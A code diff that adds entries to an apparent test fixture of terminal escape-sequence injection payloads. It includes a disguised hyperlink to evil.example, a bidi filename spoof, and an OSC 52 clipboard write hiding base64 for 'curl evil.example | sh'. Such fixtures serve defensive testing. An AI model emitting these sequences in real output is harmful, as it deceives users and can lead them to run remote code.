@@ -15,6 +15,8 @@ CNN = Path(__file__).resolve().parents[2] / "samples" / "cnn_classifier"
 KINDS = {
     "osc-set-title": "\x1b]0;pwned\x07",
     "csi-clear-screen": "\x1b[2J\x1b[H",
+    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    "osc52-clipboard-write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
     "c1-csi": "\x9b31m",
     "c1-osc-st": "\x9d0;t\x9c",
     "bidi-override": "\u202egnp.exe\u202c",
